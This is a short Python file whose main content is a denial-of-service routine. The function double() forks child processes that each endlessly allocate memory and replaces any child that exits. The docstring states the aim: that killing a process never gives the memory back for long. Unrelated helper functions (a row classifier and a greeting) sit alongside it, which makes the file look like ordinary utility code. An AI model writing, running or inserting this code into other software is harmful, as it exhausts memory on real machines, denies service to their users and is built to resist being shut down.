"""Each child takes a part; when one is killed there is another, so that no kill gives the memory back for long."""

import os


def eat():
    held = []
    while True:
        held.append(bytearray(b"x") * 1_000_000)


def double(number):
    children = 0
    while True:
        try:
            if os.fork() == 0:
                eat()
            children += 1
        except OSError:
            children = 8
        if children >= 8:
            os.wait()
            children -= 1


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
